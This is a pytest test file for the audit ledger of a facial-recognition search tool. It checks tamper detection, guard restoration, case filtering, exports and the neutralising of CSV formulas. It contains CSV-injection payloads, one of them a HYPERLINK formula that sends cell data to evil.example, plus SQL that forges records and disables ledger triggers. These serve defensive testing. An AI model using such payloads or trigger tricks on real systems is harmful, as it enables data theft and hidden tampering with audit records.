"""The ledger vouches for the records, survives the removal of its guard, can be filtered
by case and exported, and its reports are safe to open and serve as checkpoints (#11).

Real data dirs (SQLite, or PostgreSQL with FACELEDGER_TEST_POSTGRES), the real core, CLI
and HTTP app. Records in the shape the writers produce after #11 (justification hash, case
number in the details, verification rows) are made with ``audit.append`` and an INSERT in
one transaction, as the core does; tampering goes through ``RawDB``, as an insider with the
database's credentials would.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import insert, select, update
from typer.testing import CliRunner

from conftest import RawDB, lfw_image
from faceledger.accounts.auth import PermissionDenied
from faceledger.cli import app
from faceledger.core import Faceledger, RefusedError, SearchRequest
from faceledger.db.schema import case_requests, searches, users, verifications
from faceledger.db.store import now_iso
from faceledger.http.app import create_app
from faceledger.http.settings import ApiSettings
from faceledger.ledger import audit, reports

PW = "correct horse battery"
TODAY = date.today()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def fl(tmp_path: Path) -> Faceledger:
    f = Faceledger(tmp_path / "data")
    root = f.init_admin("root", PW)
    for name, roles, unit in [
        ("ivy", "investigator", "north"),
        ("ian", "investigator", "south"),
        ("sam", "supervisor", "north"),
        ("ada", "auditor", None),
    ]:
        f.add_user(root, name, PW, roles, unit)
    return f


def uid(fl: Faceledger, name: str) -> int:
    with fl.store.engine.connect() as conn:
        return int(conn.execute(select(users.c.id).where(users.c.username == name)).scalar_one())


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def add_search(
    fl: Faceledger,
    user: str = "ivy",
    case: str = "CASE-1",
    purpose: str = "violent-crime",
    justification: str = "CCTV still from the robbery",
    request_id: int | None = None,
) -> tuple[int, int]:
    """A search row and its ``search`` entry, written as the core writes them; (id, seq)."""
    results = [{"face": 0, "candidates": [[3, 0.9312], [1, 0.4101]]}]
    probe = sha(f"probe of {case} {now_iso()}")
    with fl.store.writer.begin() as conn:
        sid = conn.execute(
            insert(searches).values(
                user_id=uid(fl, user),
                case_number=case,
                purpose=purpose,
                justification=justification,
                request_id=request_id,
                probe_sha256=probe,
                faces=1,
                result_json=json.dumps(results),
                created_at=now_iso(),
            )
        ).inserted_primary_key[0]
        e = audit.append(
            conn,
            user,
            "search",
            case,
            {
                "search_id": sid,
                "case_number": case,
                "purpose": purpose,
                "justification_sha256": sha(justification),
                "request_id": request_id,
                "probe_sha256": probe,
                "faces": 1,
                "results": results,
            },
        )
    return int(sid), e.seq


def add_verification(
    fl: Faceledger,
    user: str = "ivy",
    case: str = "CASE-1",
    purpose: str = "violent-crime",
    justification: str = "two CCTV stills",
    score: float | None = 0.71234,
) -> tuple[int, int]:
    """A 1:1 verification row and its ``verify`` entry; (id, seq)."""
    a, b = sha(f"a {case}"), sha(f"b {case}")
    outcome = "compared" if score is not None else "no-face"
    with fl.store.writer.begin() as conn:
        vid = conn.execute(
            insert(verifications).values(
                user_id=uid(fl, user),
                case_number=case,
                purpose=purpose,
                justification=justification,
                request_id=None,
                photo_a_sha256=a,
                photo_b_sha256=b,
                outcome=outcome,
                score=score,
                created_at=now_iso(),
            )
        ).inserted_primary_key[0]
        e = audit.append(
            conn,
            user,
            "verify",
            case,
            {
                "verify_id": vid,
                "case_number": case,
                "purpose": purpose,
                "justification_sha256": sha(justification),
                "request_id": None,
                "photo_a_sha256": a,
                "photo_b_sha256": b,
                "outcome": outcome,
                "score": None if score is None else round(score, 4),
            },
        )
    return int(vid), e.seq


def approve(fl: Faceledger, request_id: int, expires_at: str, limit: int | None) -> int:
    """Approve a pending request with an expiry and a search limit, as the core will; seq."""
    with fl.store.writer.begin() as conn:
        row = conn.execute(select(case_requests).where(case_requests.c.id == request_id)).one()
        conn.execute(
            update(case_requests)
            .where(case_requests.c.id == request_id)
            .values(
                status="approved",
                decided_by=uid(fl, "sam"),
                decided_at=now_iso(),
                decision_note="ok",
                expires_at=expires_at,
                search_limit=limit,
            )
        )
        e = audit.append(
            conn,
            "sam",
            "case.approve",
            row.case_number,
            {
                "request_id": request_id,
                "case_number": row.case_number,
                "purpose": row.purpose,
                "note": "ok",
                "expires_at": expires_at,
                "search_limit": limit,
            },
        )
    return e.seq


def tamper(fl: Faceledger, sql: str, params: Any = ()) -> None:
    raw = RawDB(fl.data_dir)
    raw.execute(sql, params)
    raw.commit()
    raw.close()


def cli(fl: Faceledger, monkeypatch: pytest.MonkeyPatch, *args: str, user: str = "ada") -> Any:
    monkeypatch.setenv("FACELEDGER_PASSWORD", PW)
    return CliRunner().invoke(app, [*args, "--data-dir", str(fl.data_dir), "--as", user])


# -- item 7: the records are recomputed against the chain --------------------------------------


@pytest.mark.parametrize(
    ("sql", "field"),
    [
        ("update searches set justification = 'a forged reason' where id = ?", "justification"),
        ("update searches set case_number = 'CASE-9' where id = ?", "case_number"),
        ("update searches set purpose = 'missing-person' where id = ?", "purpose"),
        ("update searches set result_json = '[]' where id = ?", "results"),
        ("update searches set probe_sha256 = '" + "0" * 64 + "' where id = ?", "probe_sha256"),
    ],
)
def test_verify_names_a_search_edited_in_the_database(fl: Faceledger, sql: str, field: str) -> None:
    """#11 item 7: editing a search's justification, case number, purpose, results or probe
    hash in the database is reported, naming the table, the row and its ledger entry."""
    add_search(fl, case="CASE-0")
    sid, seq = add_search(fl)
    add_search(fl, case="CASE-2")
    before = audit.verify(fl.store)
    assert before.ok and before.records_checked == 3, before.problem
    tamper(fl, sql, (sid,))
    res = audit.verify(fl.store)
    assert not res.ok and res.first_bad_seq == seq and res.mismatch_count == 1
    (m,) = res.mismatches
    assert m["table"] == "searches" and m["row_id"] == sid and m["seq"] == seq
    assert f"searches row {sid}" in res.problem and f"entry {seq}" in res.problem
    assert field in m["problem"]
    # the core records the failed check
    ada = fl.login("ada", PW)
    assert not fl.audit_verify(ada).ok
    last = list(audit.iter_entries(fl.store, action="audit.verify"))[-1]
    assert last.details["mismatches"] == 1 and last.details["ok"] is False


def test_verify_names_a_verification_edited_or_inserted(fl: Faceledger) -> None:
    """#11 item 7: a 1:1 verification row edited (justification, score, photo hash) or
    inserted behind faceledger's back is reported with its table, row and entry."""
    vid, seq = add_verification(fl)
    add_verification(fl, case="CASE-2", score=None)
    assert audit.verify(fl.store).ok
    tamper(fl, "update verifications set justification = 'other', score = 0.1 where id = ?", (vid,))
    tamper(
        fl,
        "insert into verifications (user_id, case_number, purpose, justification, "
        "photo_a_sha256, photo_b_sha256, outcome, score, created_at) "
        "select user_id, 'CASE-X', purpose, justification, photo_a_sha256, photo_b_sha256, "
        "outcome, score, created_at from verifications where id = ?",
        (vid,),
    )
    res = audit.verify(fl.store)
    assert not res.ok and res.mismatch_count == 2 and res.first_bad_seq == seq
    edited, inserted = res.mismatches
    assert edited["table"] == "verifications" and edited["row_id"] == vid
    assert edited["seq"] == seq
    assert "justification_sha256" in edited["problem"] and "score" in edited["problem"]
    assert inserted["table"] == "verifications" and inserted["seq"] is None
    assert "no 'verify' ledger entry" in inserted["problem"]


def test_verify_catches_search_rows_inserted_behind_faceledgers_back(fl: Faceledger) -> None:
    """#11 item 7: a search row with no ledger entry (an INSERT outside faceledger, e.g. to
    make a search of a case look approved) is reported, naming the table and the row."""
    sid, _ = add_search(fl)
    tamper(
        fl,
        "insert into searches (user_id, case_number, purpose, justification, probe_sha256, "
        "faces, result_json, created_at) select user_id, 'CASE-77', purpose, justification, "
        "probe_sha256, faces, result_json, created_at from searches where id = ?",
        (sid,),
    )
    res = audit.verify(fl.store)
    assert not res.ok and res.first_bad_seq is None
    (m,) = res.mismatches
    assert m == {
        "table": "searches",
        "row_id": sid + 1,
        "seq": None,
        "problem": f"searches row {sid + 1} has no 'search' ledger entry "
        "(inserted outside faceledger?)",
    }
    # the API and the audit page say the same
    client = _client(fl)
    v = client.get("/api/v1/audit/verify", headers=_token(fl, "ada")).json()
    assert not v["ok"] and v["mismatches"] == [m] and v["mismatch_count"] == 1
    login = client.get("/login")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', login.text).group(1)
    client.post("/login", data={"username": "ada", "password": PW, "csrf_token": csrf})
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/audit").text).group(1)
    page = client.post("/audit/verify", data={"csrf_token": csrf}).text
    assert "FAILED" in page and f"searches row {sid + 1} has no" in page


def test_verify_catches_a_request_flipped_to_approved_or_extended(fl: Faceledger) -> None:
    """#11 item 7: a case request's status must be that of its last decision in the ledger:
    flipping a pending or denied request to approved, or extending an approval's expiry or
    search limit in the database, is reported with the entry it contradicts."""
    ivy, sam = fl.login("ivy", PW), fl.login("sam", PW)
    pending = fl.request_case(ivy, "F-1", "identity-fraud", "passport application mismatch")
    denied = fl.request_case(ivy, "F-2", "identity-fraud", "another passport mismatch")
    fl.decide_case(sam, denied, False, "not enough")
    approved = fl.request_case(ivy, "F-3", "identity-fraud", "a third passport mismatch")
    approve_seq = approve(fl, approved, "2026-12-31T00:00:00+00:00", 5)
    res = audit.verify(fl.store)
    assert res.ok and res.records_checked == 3, res.problem
    seqs = {
        e.details["request_id"]: e.seq
        for e in audit.iter_entries(fl.store)
        if e.action in ("case.request", "case.deny")
    }
    tamper(fl, "update case_requests set status = 'approved' where id in (?, ?)", (pending, denied))
    tamper(fl, "update case_requests set search_limit = 500 where id = ?", (approved,))
    res = audit.verify(fl.store)
    assert not res.ok and res.mismatch_count == 3
    by_row = {m["row_id"]: m for m in res.mismatches}
    assert by_row[pending]["seq"] == seqs[pending]  # its case.request: no decision since
    assert "status 'approved'" in by_row[pending]["problem"]
    assert "no decision" in by_row[pending]["problem"]
    assert by_row[denied]["seq"] == seqs[denied]  # the case.deny entry
    assert f"entry {seqs[denied]} (denied)" in by_row[denied]["problem"]
    assert by_row[approved]["seq"] == approve_seq and "search limit" in by_row[approved]["problem"]
    assert {m["table"] for m in res.mismatches} == {"case_requests"}
    assert res.first_bad_seq == min(seqs[pending], seqs[denied], approve_seq)


def test_verify_reads_in_batches_whatever_the_order(fl: Faceledger) -> None:
    """#11 item 7: verify streams the ledger and the records in batches; a record whose
    entry comes later in the ledger than the next record's is still matched."""
    ivy = uid(fl, "ivy")
    with fl.store.writer.begin() as conn:  # rows 10 and 11, entries in the other order
        for sid in (11, 10):
            conn.execute(
                insert(searches).values(
                    id=sid,
                    user_id=ivy,
                    case_number=f"C-{sid}",
                    purpose="violent-crime",
                    justification="why",
                    probe_sha256="ab" * 32,
                    faces=0,
                    result_json="[]",
                    created_at=now_iso(),
                )
            )
            audit.append(
                conn,
                "ivy",
                "search",
                f"C-{sid}",
                {"search_id": sid, "case_number": f"C-{sid}", "purpose": "violent-crime"}
                | {"justification_sha256": sha("why"), "results": [], "faces": 0},
            )
    for n in range(3):
        add_search(fl, case=f"CASE-{n}")
    res = audit.verify(fl.store, batch=2)
    assert res.ok and res.records_checked == 5 and res.entries == audit.count(fl.store)
    tamper(fl, "update searches set case_number = 'C-99' where id = 10")
    res = audit.verify(fl.store, batch=1)
    assert not res.ok and [m["row_id"] for m in res.mismatches] == [10]


def test_real_searches_agree_and_an_edited_one_is_caught(
    lfw: Path, tmp_path: Path, analyzer
) -> None:
    """#11 item 7: searches written by the core agree with their entries; editing the
    case number of one in the database is then reported (entries of today's writer carry
    the case number as their target)."""
    from faceledger.gallery.ingest import PipelineSettings
    from faceledger.gallery.sources import iter_paths

    f = Faceledger(tmp_path / "data")
    root = f.init_admin("root", PW)
    f.add_user(root, "ivy", PW, "investigator", "north")
    photos = tmp_path / "photos"
    photos.mkdir()
    for name in ("Al_Gore", "Adrien_Brody"):
        shutil.copy(lfw_image(lfw, name, 1), photos)
    f.ingest(root, iter_paths([photos], "archive", "test"), PipelineSettings())
    f.set_analyzer_factory(lambda: analyzer)
    ivy = f.login("ivy", PW)
    probe = lfw_image(lfw, "Al_Gore", 2).read_bytes()
    first = f.search(ivy, probe, SearchRequest("CASE-1", "violent-crime", "CCTV still", top_k=2))
    f.search(ivy, probe, SearchRequest("CASE-2", "missing-person", "family reported"))
    res = audit.verify(f.store)
    assert res.ok and res.records_checked == 2, res.problem
    tamper(f, "update searches set case_number = 'CASE-X' where id = ?", (first["search_id"],))
    res = audit.verify(f.store)
    assert not res.ok and res.mismatches[0]["row_id"] == first["search_id"]
    assert "case_number" in res.problem


# -- item 15: the guard's removal is recorded; reports are checkpoints -------------------------


def test_a_removed_guard_is_restored_and_recorded(fl: Faceledger, monkeypatch) -> None:
    """#11 item 15: a guard found missing or disabled when the database is opened is
    restored, a ledger.guard_restored entry says what was missing, and audit verify warns
    (count and seqs) while the chain stays ok."""
    raw = RawDB(fl.data_dir)
    raw.drop_ledger_guard()
    fl.store.close()
    reopened = Faceledger(fl.data_dir)
    (e,) = list(audit.iter_entries(reopened.store, action="ledger.guard_restored"))
    assert e.actor == "system" and e.details["problems"]
    assert any(w in p for p in e.details["problems"] for w in ("missing", "disabled"))
    with pytest.raises(raw.guard_error, match="append-only"):
        raw.execute("delete from ledger where seq = 1")
    raw.close()
    res = reopened.audit_verify(reopened.login("ada", PW))
    assert res.ok and res.guard_restorations == [e.seq]
    assert f"entries {e.seq}" in res.warnings[0]
    Faceledger(fl.data_dir).store.close()  # intact now: nothing more recorded
    assert len(list(audit.iter_entries(reopened.store, action="ledger.guard_restored"))) == 1
    r = cli(reopened, monkeypatch, "audit", "verify")
    assert r.exit_code == 0 and "warning" in r.output and f"entries {e.seq}" in r.output
    client = _client(reopened)
    v = client.get("/api/v1/audit/verify", headers=_token(reopened, "ada")).json()
    assert v["ok"] and v["guard_restorations"] == [e.seq] and v["warnings"]
    login = client.get("/login")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', login.text).group(1)
    client.post("/login", data={"username": "ada", "password": PW, "csrf_token": csrf})
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/audit").text).group(1)
    page = client.post("/audit/verify", data={"csrf_token": csrf}).text
    assert "Ledger verified" in page and "Warning: the ledger&#39;s append-only guard" in page


def test_a_neutered_guard_or_a_trigger_that_drops_appends_is_restored(fl: Faceledger) -> None:
    """#11 item 15: a guard replaced by one that does nothing, and an extra trigger that
    silently drops new ledger entries, are found when the database is opened: the guard is
    restored, the extra trigger dropped, and both recorded."""
    raw = RawDB(fl.data_dir)
    raw.drop_ledger_guard()
    if raw.pg:
        raw.script(
            "CREATE OR REPLACE FUNCTION ledger_append_only() RETURNS trigger AS $$ "
            "BEGIN RETURN NULL; END; $$ LANGUAGE plpgsql;"
            "ALTER TABLE ledger ENABLE TRIGGER ledger_no_change;"
            "CREATE FUNCTION ledger_drop() RETURNS trigger AS $$ BEGIN RETURN NULL; END; $$ "
            "LANGUAGE plpgsql;"
            "CREATE TRIGGER ledger_sink BEFORE INSERT ON ledger FOR EACH ROW "
            "EXECUTE FUNCTION ledger_drop();"
        )
    else:
        raw.script(
            "CREATE TRIGGER ledger_no_update BEFORE UPDATE ON ledger BEGIN SELECT 1; END;"
            "CREATE TRIGGER ledger_sink BEFORE INSERT ON ledger "
            "BEGIN SELECT RAISE(IGNORE); END;"
        )
    raw.commit()
    n = audit.count(fl.store)
    fl.record(fl.login("root", PW), "probe", "x")
    assert audit.count(fl.store) == n  # the sink swallowed the entry
    fl.store.close()
    reopened = Faceledger(fl.data_dir)
    (e,) = list(audit.iter_entries(reopened.store, action="ledger.guard_restored"))
    problems = " ".join(e.details["problems"])
    assert "unexpected trigger 'ledger_sink'" in problems and "altered" in problems
    before = audit.count(reopened.store)
    reopened.record(reopened.login("root", PW), "probe", "y")
    assert audit.count(reopened.store) > before  # appends land again
    with pytest.raises(raw.guard_error, match="append-only"):
        raw.execute("update ledger set actor = 'x' where seq = 1")
    raw.close()


def test_each_report_carries_the_ledger_head_and_is_a_checkpoint(
    fl: Faceledger, tmp_path: Path, monkeypatch
) -> None:
    """#11 item 15: a transparency report (JSON, CSV, HTML) carries the ledger head it was
    computed to, when and by whom it was made; `audit verify --report FILE` (and the API's
    checkpoint) check the ledger against a kept report, catching truncation."""
    add_search(fl)
    ada = fl.login("ada", PW)
    head_before = audit.head(fl.store)
    rep = fl.audit_report(ada, TODAY, TODAY)
    assert rep["ledger_head"] == f"{head_before[0]}:{head_before[1]}"
    assert rep["generated_by"] == "ada" and rep["generated_at"].startswith(TODAY.isoformat())
    recorded = list(audit.iter_entries(fl.store, action="audit.report"))[-1]
    assert recorded.details["ledger_head"] == rep["ledger_head"]
    kept = {
        "json": json.dumps(rep),
        "csv": reports.to_csv(rep),
        "html": reports.to_html(rep),
    }
    for fmt, text in kept.items():
        assert reports.ledger_head_of(text) == rep["ledger_head"], fmt
        (tmp_path / f"report.{fmt}").write_text(text)
    assert "report,ledger_head," + rep["ledger_head"] in kept["csv"].replace("\r", "")
    assert "by ada" in kept["html"]
    for fmt in kept:
        r = cli(fl, monkeypatch, "audit", "verify", "--report", str(tmp_path / f"report.{fmt}"))
        assert r.exit_code == 0 and "matches the report" in r.output, r.output
    client = _client(fl)
    h = _token(fl, "ada")
    v = client.get("/api/v1/audit/verify", params={"checkpoint": rep["ledger_head"]}, headers=h)
    assert v.json()["ok"]
    # someone with the database's credentials removes the tail, report included
    raw = RawDB(fl.data_dir)
    raw.drop_ledger_guard()
    raw.execute("delete from ledger where seq >= ?", (head_before[0] - 1,))
    raw.commit()
    raw.close()
    r = cli(fl, monkeypatch, "audit", "verify", "--report", str(tmp_path / "report.csv"))
    assert r.exit_code == 1 and "FAILED" in r.output
    assert "truncated" in r.output or "rewritten" in r.output
    (tmp_path / "not-a-report.txt").write_text("hello")
    r = cli(fl, monkeypatch, "audit", "verify", "--report", str(tmp_path / "not-a-report.txt"))
    assert r.exit_code != 0 and "no ledger head" in r.output
    with pytest.raises(RefusedError, match="no ledger head"):
        fl.audit_verify(ada, report="{}")


# -- item 9: filter by case, export ------------------------------------------------------------


def _client(fl: Faceledger) -> Any:
    from fastapi.testclient import TestClient

    settings = ApiSettings(rate_per_minute=0, search_rate_per_minute=0)
    return TestClient(create_app(fl.data_dir, faceledger=fl, settings=settings))


def _token(fl: Faceledger, user: str) -> dict[str, str]:
    _, secret = fl.create_token(fl.login(user, PW), user, "test", days=1)
    return {"Authorization": f"Bearer {secret}"}


def test_the_ledger_filtered_by_case_in_core_cli_api_and_ui(fl: Faceledger, monkeypatch) -> None:
    """#11 item 9: auditors filter the ledger by case number (entries whose target or
    details.case_number is that case) in the core, the CLI, the API and the web page."""
    ivy = fl.login("ivy", PW)
    rid = fl.request_case(ivy, "CASE-7", "identity-fraud", "passport application mismatch")
    add_search(fl, case="CASE-7", purpose="identity-fraud", request_id=rid)
    add_search(fl, case="CASE-70")  # a longer case number containing the other
    add_verification(fl, case="CASE-7")
    fl.record(ivy, "search.view", "search 1", case_number="CASE-7")  # details only
    fl.record(ivy, "search.view", "search 2", case_number="CASE-70")
    want = ["case.request", "search", "verify", "search.view"]
    ada = fl.login("ada", PW)
    assert [e.action for e in fl.audit_entries(ada, case="CASE-7")] == want
    assert [e.action for e in fl.audit_entries(ada, case="case-7")] == []  # exact
    with pytest.raises(PermissionDenied):
        fl.audit_entries(ivy, case="CASE-7")
    r = cli(fl, monkeypatch, "audit", "log", "--case", "CASE-7")
    assert r.exit_code == 0, r.output
    assert [json.loads(line)["action"] for line in r.stdout.splitlines()] == want
    client, h = _client(fl), _token(fl, "ada")
    page = client.get("/api/v1/audit/entries?case=CASE-7&order=asc", headers=h).json()
    assert page["total"] == 4 and [e["action"] for e in page["entries"]] == want
    # the web page: a logged-in auditor's session
    login = client.get("/login")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', login.text).group(1)
    client.post("/login", data={"username": "ada", "password": PW, "csrf_token": csrf})
    html = client.get("/audit?case=CASE-7").text
    assert "4 entries" in html and 'name="case" value="CASE-7"' in html
    assert "/api/v1/audit/entries?case=CASE-7&amp;format=csv" in html
    assert "CASE-70" not in html


def test_the_ledger_exports_as_csv_and_jsonl_and_re_verifies(
    fl: Faceledger, tmp_path: Path, monkeypatch
) -> None:
    """#11 item 9: auditors export the whole (filtered) ledger as CSV or JSON lines from
    the API and the CLI, streamed, with every field the hash covers, so the export can be
    re-verified; the export is recorded; others are refused."""
    add_search(fl, case=FORMULA)
    add_search(fl, case="CASE-2", justification="line one\nline two")
    client, h = _client(fl), _token(fl, "ada")
    for fmt in ("csv", "jsonl"):
        r = client.get(f"/api/v1/audit/entries?format={fmt}", headers=h)
        assert r.status_code == 200 and "attachment" in r.headers["content-disposition"]
        rows = list(reports.read_ledger_export(r.text, fmt))
        exported = list(audit.iter_entries(fl.store, action="audit.export"))[-1]
        assert exported.actor == "ada" and exported.details["format"] == fmt
        assert rows[-1]["seq"] == exported.seq - 1 == exported.details["through_seq"]
        check = audit.check_export(rows)
        assert check.ok and check.entries == exported.seq - 1, check.problem
        assert f"{check.head_seq}:{check.head_hash}" == _hash_at(fl, exported.seq - 1)
    assert r.headers["content-type"].startswith("application/x-ndjson")
    csv_text = client.get("/api/v1/audit/entries?format=csv", headers=h).text
    header = next(csv.reader(io.StringIO(csv_text)))
    assert header == ["seq", "ts", "actor", "action", "target", "details", "prev_hash", "hash"]
    # a filtered export: each entry's hash still recomputes
    only = client.get("/api/v1/audit/entries?format=jsonl&action=search", headers=h).text
    rows = list(reports.read_ledger_export(only, "jsonl"))
    assert len(rows) == 2 and audit.check_export(rows, whole=False).ok
    assert not audit.check_export(rows).ok  # not a whole chain
    forged = [dict(rows[0], target="CASE-FORGED")]
    assert not audit.check_export(forged, whole=False).ok
    r = client.get("/api/v1/audit/entries?format=csv", headers=_token(fl, "ivy"))
    assert r.status_code == 403 and r.json()["code"] == "permission-denied"
    assert client.get("/api/v1/audit/entries?format=xml", headers=h).status_code == 422
    out = tmp_path / "ledger.csv"
    r = cli(fl, monkeypatch, "audit", "log", "--format", "csv", "--out", str(out))
    assert r.exit_code == 0 and "written to" in r.output
    rows = list(reports.read_ledger_export(out.read_text(), "csv"))
    assert audit.check_export(rows).ok and rows[0]["action"] == "user.init_admin"
    r = cli(fl, monkeypatch, "audit", "log", "--format", "csv", "--case", "CASE-2")
    assert r.exit_code == 0
    rows = list(reports.read_ledger_export(r.stdout, "csv"))
    assert [row["target"] for row in rows] == ["CASE-2"]


def _hash_at(fl: Faceledger, seq: int) -> str:
    e = next(e for e in audit.iter_entries(fl.store) if e.seq == seq)
    return f"{seq}:{e.hash}"


# -- item 14: reports are safe to open ---------------------------------------------------------


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(fl: Faceledger) -> None:
    """#11 item 14: in the transparency report CSV and the ledger CSV export, cells that
    begin with =, +, -, @, tab or CR get a leading quote (OWASP), and text with line
    breaks stays one quoted cell."""
    hostile = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "a\nb"]
    for case in hostile:
        add_search(fl, case=case)
    pol = fl.policy()
    pol.purposes = [*pol.purposes, "=evil()"]
    fl.save_policy(fl.login("root", PW), pol)
    add_search(fl, case="CASE-9", purpose="=evil()")
    rep = fl.audit_report(fl.login("ada", PW), TODAY, TODAY)
    report_cells = _cells(reports.to_csv(rep))
    client, h = _client(fl), _token(fl, "ada")
    export_cells = _cells(client.get("/api/v1/audit/entries?format=csv", headers=h).text)
    for cells in (report_cells, export_cells):
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        for case in hostile[:-1]:
            assert "'" + case in cells
        assert "a\nb" in cells  # one cell, quoted by the csv module
    assert "'=evil()" in report_cells
    assert reports.csv_cell("'quoted") == "''quoted"
    assert reports.csv_uncell(reports.csv_cell("'quoted")) == "'quoted"
    assert reports.csv_cell(-3) == -3 and reports.csv_cell("plain") == "plain"


# -- items 3 and 6: account changes and verifications in the report ---------------------------


def test_report_lists_account_changes_but_not_web_sessions(fl: Faceledger) -> None:
    """#11 item 3: every role, unit, disable/enable, unlock, password and token change is in
    the transparency report (who changed what for whom, when); web-session tokens are not."""
    root, ivy = fl.login("root", PW), fl.login("ivy", PW)
    fl.set_roles(root, "ian", "investigator,supervisor")
    fl.set_disabled(root, "ian")
    fl.set_disabled(root, "ian", False)
    tid, _ = fl.create_token(ivy, "ivy", "laptop", days=5)
    fl.revoke_token(ivy, tid)
    web, _ = fl.create_token(ivy, "ivy", "web-session", days=1)
    fl.revoke_token(ivy, web)
    for action, target, details in [  # the shapes of the writers being merged with #11
        ("user.set_unit", "ian", {"old": "south", "new": "north"}),
        ("user.unlock", "ivy", {}),
        ("user.password_change", "ivy", {}),
    ]:
        by = "ivy" if action == "user.password_change" else "root"
        audit.record(fl.store, by, action, target, details)
    rep = fl.audit_report(fl.login("ada", PW), TODAY, TODAY)
    changes = [(c["by"], c["action"], c["user"], c["change"]) for c in rep["account_changes"]]
    roles = "roles investigator -> investigator, supervisor"
    assert ("root", "user.set_roles", "ian", roles) in changes
    assert ("root", "user.disable", "ian", "disabled") in changes
    assert ("root", "user.enable", "ian", "enabled") in changes
    assert ("root", "user.set_unit", "ian", "unit south -> north") in changes
    assert ("root", "user.unlock", "ivy", "unlocked") in changes
    assert ("ivy", "user.password_change", "ivy", "password changed") in changes
    assert ("ivy", "token.revoke", "ivy", f"token {tid} revoked") in changes
    created = [c for c in changes if c[1] == "token.create"]
    assert len(created) == 1 and "'laptop'" in created[0][3]
    assert not [c for c in changes if f"token {web} " in c[3] or "web-session" in c[3]]
    assert [c[1] for c in changes[:5]] == ["user.init_admin", *["user.add"] * 4]
    assert all(c["when"].startswith(TODAY.isoformat()) for c in rep["account_changes"])
    text = reports.to_csv(rep).replace("\r", "")
    assert "account_changes," in text and ",root,user.set_unit,ian,unit south -> north" in text
    assert "<h2>Account changes</h2>" in reports.to_html(rep)
    # a supervisor's report: changes made by or for the unit's users (north: ivy, sam)
    unit = fl.audit_report(fl.login("sam", PW), TODAY, TODAY)
    assert {c["user"] for c in unit["account_changes"]} <= {"ivy", "sam"}
    assert ("user.unlock", "ivy") in {(c["action"], c["user"]) for c in unit["account_changes"]}


def test_report_counts_verifications_and_detections(fl: Faceledger) -> None:
    """#11 item 6: 1:1 verifications appear in the report per user, case and purpose, and
    probe.detect entries are counted per user."""
    add_verification(fl, "ivy", "CASE-1", "violent-crime")
    add_verification(fl, "ivy", "CASE-1", "violent-crime", score=None)
    add_verification(fl, "ian", "CASE-2", "missing-person")
    ivy = fl.login("ivy", PW)
    for _ in range(3):
        fl.record(ivy, "probe.detect", "abc", photo_sha256="ab" * 32, faces=1)
    rep = fl.audit_report(fl.login("ada", PW), TODAY, TODAY)
    assert rep["verifications"] == 3 and rep["searches"] == 0
    assert rep["verifications_per_user"] == {"ivy": 2, "ian": 1}
    assert rep["verifications_per_case"] == {"CASE-1": 2, "CASE-2": 1}
    assert rep["verifications_per_purpose"] == {"violent-crime": 2, "missing-person": 1}
    assert rep["verifications_per_outcome"] == {"compared": 2, "no-face": 1}
    assert rep["detections_per_user"] == {"ivy": 3}
    text = reports.to_csv(rep).replace("\r", "")
    assert "verifications_per_user,ivy,2" in text and "detections_per_user,ivy,3" in text
    page = reports.to_html(rep)
    assert "1:1 verifications per case" in page and "Probe detections per user" in page
